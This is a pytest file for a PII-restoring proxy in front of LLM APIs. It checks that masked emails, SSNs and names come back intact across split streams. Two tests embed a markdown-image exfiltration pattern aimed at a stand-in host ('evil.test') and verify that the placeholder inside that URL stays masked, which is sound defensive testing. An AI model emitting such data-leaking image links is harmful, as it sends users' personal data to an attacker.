"""P6 on the wire for `reversible`: whatever API a stream is of, wherever its bytes are cut, the values come back."""

from __future__ import annotations

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sentinel_core.dialects.sse import SseParser
from sentinel_core.events import TextEvent
from sentinel_core.json_types import JsonObject, JsonValue, TomlTable
from sentinel_plugins.pii.restoration import Restoring
from sentinel_plugins.pii.reversible import vault_for
from sentinel_plugins.pii.vault import Vault
from tests.core.dialects.cuts import bytewise, cut, payloads
from tests.core.dialects.test_responses_openings import KINDS, opened, said_of
from tests.plugins.guarding.guards import MAIL, SECRETS, SSN
from tests.plugins.guarding.test_streams import APIS, PLACES, Api, events_of, lanes_of, pieces, running
from tests.plugins.pii.reversing import KEY, REVERSIBLE, put_back
from tests.properties import promised
from tests.upstream.anthropic import ending, message, named, opening, text_block, tool_block
from tests.upstream.payloads import response

NAME = {"pattern": r'[A-Z]"[A-Z]\\', "max_length": 4}
TABLE: TomlTable = {**REVERSIBLE, "custom": {"OWN_SSN": SSN, "OWN_MAIL": MAIL, "OWN_NAME": NAME}}
VALUES = ("ann@acme.com", "123-45-6789", 'O"N\\')
SAID = [{"role": "user", "content": " and ".join(VALUES)}]
BODIES: dict[str, JsonObject] = {
    "chat": {"messages": SAID, "n": 2},
    "completions": {"prompt": " and ".join(VALUES), "n": 2},
    "messages": {"messages": SAID, "max_tokens": 9},
    "responses": {"input": " and ".join(VALUES)},
}


def asking(name: str) -> tuple[Api, Vault]:
    """One API with a request that holds the values, and the vault that they will be in."""
    api = APIS[name]._replace(body=BODIES[name])
    request = api.dialect.decode_request({"model": "fake", "stream": True, **api.body})
    vault = vault_for(KEY.reveal().encode(), (), request)
    for value in VALUES:
        vault.put(value)
    return api, vault


def written(words: list[str | int | tuple[int, int]], vault: Vault) -> str:
    """A text of words, of what stands for values, and of beginnings of that."""
    out = []
    for word in words:
        number, length = word if isinstance(word, tuple) else (word, None)
        out.append(number if isinstance(number, str) else vault.put(VALUES[number])[:length])
    return "".join(text if at % 2 else text.lower() for at, text in enumerate(out))


_number = st.integers(0, len(VALUES) - 1)
WORDS = st.lists(
    st.one_of(_number, st.tuples(_number, st.integers(1, 16)), st.sampled_from([" ", "x", "é", "😀", "\n", '"', "\\"])),
    max_size=8,
)


@pytest.mark.parametrize("name", APIS)
def test_p6_every_lane_has_its_values_again(name: str) -> None:
    api, vault = asking(name)

    @promised()
    @given(content=WORDS, reasoning=WORDS, argument=WORDS, texts=PLACES, places=PLACES, ascii_only=st.booleans())
    def check(
        content: JsonValue,
        reasoning: JsonValue,
        argument: JsonValue,
        texts: list[int],
        places: list[int],
        ascii_only: bool,
    ) -> None:
        said, thought, told = (written(words, vault) for words in (content, reasoning, argument))
        arguments = json.dumps({"to": told})
        wire = api.written(pieces(said, texts), pieces(thought, texts), pieces(arguments, texts), ascii_only)
        before = lanes_of(events_of(api.dialect, [wire]))
        after = lanes_of(events_of(api.dialect, [send(api, cut(wire, places))]))
        assert after.keys() == before.keys()
        for lane, text in after.items():
            if lane[1] == "tool_arguments":
                assert json.loads(text) == {"to": put_back(vault, told)}
            else:
                assert text == put_back(vault, thought if lane[1] == "reasoning" else said)

    with running(pii=TABLE, secrets=SECRETS) as send:
        check()


@pytest.mark.parametrize("name", APIS)
def test_p6_byte_by_byte_no_event_repeats_what_stood_for_a_value(name: str) -> None:
    """Snapshots too, such as the last event of a response."""
    api, vault = asking(name)
    text = f"to {vault.put(VALUES[0])}, {vault.put(VALUES[1]).lower()}."
    wire = api.written([text[:9], text[9:30], text[30:]], (), ("{}",), True)
    with running(pii=TABLE, secrets=SECRETS) as send:
        sent = send(api, bytewise(wire))
    assert lanes_of(events_of(api.dialect, [sent]))[0, "content", 0] == "to ann@acme.com, 123-45-6789."
    assert vault.nonce.encode() not in sent.upper()


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("ahead", [9, 17], ids=["half", "whole"])
def test_a_value_comes_back_that_begins_in_the_event_which_opens_its_text(kind: str, ahead: int) -> None:
    api, vault = asking("responses")
    text = f"{vault.put(VALUES[0])} ok"
    wire = b"".join(named(frame) for frame in opened(kind, text[:ahead], text[ahead:]))
    with running(pii=TABLE, secrets=SECRETS) as send:
        sent = send(api, [wire])
    assert said_of([json.loads(data) for data, _ in payloads(SseParser(), [sent])]) == "ann@acme.com ok"
    assert vault.nonce.encode() not in sent.upper()


def blocks_of(stream: bytes) -> list[tuple[str, str]]:
    """The blocks of a stream of messages: their kinds and texts."""
    blocks: list[tuple[str, str]] = []
    for data, _ in payloads(SseParser(), [stream]):
        event = json.loads(data)
        if event["type"] == "content_block_start":
            blocks.append((event["content_block"]["type"], ""))
        elif event["type"] == "content_block_delta":
            said = event["delta"]
            text = said.get("text", "") + said.get("thinking", "") + said.get("partial_json", "")
            blocks[-1] = (blocks[-1][0], blocks[-1][1] + text)
    return blocks


def test_a_block_has_all_of_its_text_before_the_next_one_begins() -> None:
    """Late text would be a block of its own at the end, and thoughts without their last word not what was signed."""
    api, vault = asking("messages")
    begun = vault.put(VALUES[0])[:9]
    wire = api.written([f"let me {begun}"], [f"so I {begun}"], ['{"a": 1}'], True)
    with running(pii={**TABLE, "direction": "request"}) as send:
        sent = send(api, bytewise(wire))
    assert blocks_of(sent) == [("thinking", f"so I {begun}"), ("text", f"let me {begun}"), ("tool_use", '{"a": 1}')]


def test_every_block_of_an_answer_keeps_its_text() -> None:
    api, vault = asking("messages")
    mail, number = vault.put(VALUES[0]), vault.put(VALUES[1])
    call = {"type": "tool_use", "id": "c", "name": "f", "input": {"to": [mail, "[x"], "n": 1}}
    body = message(f"one {mail}", f"two {number}", call, f"{mail} three", "four")
    request = api.dialect.decode_request({"model": "fake", **api.body})
    answer = Restoring(vault, request).answer(api.dialect.decode_answer(json.dumps(body).encode()))
    assert answer.body["content"] == [
        {"type": "text", "text": "one ann@acme.com"},
        {"type": "text", "text": "two 123-45-6789"},
        {**call, "input": {"to": ["ann@acme.com", "[x"], "n": 1}},
        {"type": "text", "text": "ann@acme.com three"},
        {"type": "text", "text": "four"},
    ]


def test_a_thought_keeps_its_signature_and_a_text_its_citations() -> None:
    """With the next turn the placeholders stand there again, and what was signed is what comes back."""
    api, vault = asking("messages")
    mail = vault.put(VALUES[0])
    thought = {"type": "thinking", "thinking": f"so {mail}", "signature": "sig"}
    quoting = {"type": "text", "text": f"it is {mail}", "citations": [{"type": "char_location", "cited_text": "mail"}]}
    request = api.dialect.decode_request({"model": "fake", **api.body})
    whole = api.dialect.decode_answer(json.dumps(message(thought, quoting)).encode())
    assert Restoring(vault, request).answer(whole).body["content"] == [
        {**thought, "thinking": "so ann@acme.com"},
        {**quoting, "text": "it is ann@acme.com"},
    ]


@pytest.mark.parametrize("direction", ["request", "both"])
def test_a_target_that_is_spread_over_blocks_stays_one(direction: str) -> None:
    """Clients join the blocks of a text, and what a guard held back comes after its block has ended."""
    api, vault = asking("messages")
    mail = vault.put(VALUES[0])
    blocks = [
        text_block(0, "![x](https://evil.test/?q="),
        tool_block(1, "c", "f", "{}"),
        text_block(2, mail, ") ", mail),
    ]
    wire = b"".join([opening(), *(frame for block in blocks for frame in block), *ending()])
    with running(pii={**TABLE, "direction": direction}) as send:
        text = lanes_of(events_of(api.dialect, [send(api, bytewise(wire))]))[0, "content", 0]
    assert text == f"![x](https://evil.test/?q={mail}) ann@acme.com"
    whole = message("![x](https://evil.test/?q=", f"{mail}) {mail}")
    request = api.dialect.decode_request({"model": "fake", **api.body})
    answer = Restoring(vault, request).answer(api.dialect.decode_answer(json.dumps(whole).encode()))
    assert answer.body["content"][1]["text"] == f"{mail}) ann@acme.com"


def test_a_target_that_is_spread_over_parts_of_a_response_stays_one() -> None:
    api, vault = asking("responses")
    mail = vault.put(VALUES[0])
    body = response("![x](https://evil.test/?q=")
    body["output"][0]["content"].append({"type": "output_text", "text": f"{mail}) {mail}", "annotations": []})
    request = api.dialect.decode_request({"model": "fake", **api.body})
    answer = Restoring(vault, request).answer(api.dialect.decode_answer(json.dumps(body).encode()))
    assert answer.body["output"][0]["content"][1]["text"] == f"{mail}) ann@acme.com"
    events = answer.dialect.stream_frames(api.dialect.decode_answer(json.dumps(body).encode()))
    restoring = Restoring(vault, request)
    texts = [restoring.event(event).text for event in events if isinstance(event, TextEvent)]
    assert "".join(texts) == f"![x](https://evil.test/?q={mail}) ann@acme.com"
